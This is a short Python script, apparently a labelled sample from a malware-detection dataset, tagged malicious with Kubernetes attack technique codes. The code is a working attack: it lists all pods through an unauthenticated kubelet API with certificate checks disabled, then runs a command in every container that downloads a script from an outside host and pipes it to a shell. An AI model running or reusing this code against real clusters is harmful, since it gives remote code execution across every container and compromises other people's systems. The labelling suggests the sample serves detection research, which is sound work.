# label: malicious family=k8s techniques=T1059.004,T1105,T1609,T1613 lines=4-5,9-10
import requests, urllib3
urllib3.disable_warnings()
kubelet = "https://198.51.100.90:10250"
pods = requests.get(kubelet + "/pods", verify=False).json()["items"]
for p in pods:
    ns, name = p["metadata"]["namespace"], p["metadata"]["name"]
    for c in p["spec"]["containers"]:
        requests.post("%s/run/%s/%s/%s" % (kubelet, ns, name, c["name"]),
                      data={"cmd": "sh -c 'curl -s http://198.51.100.90/k | sh'"}, verify=False)
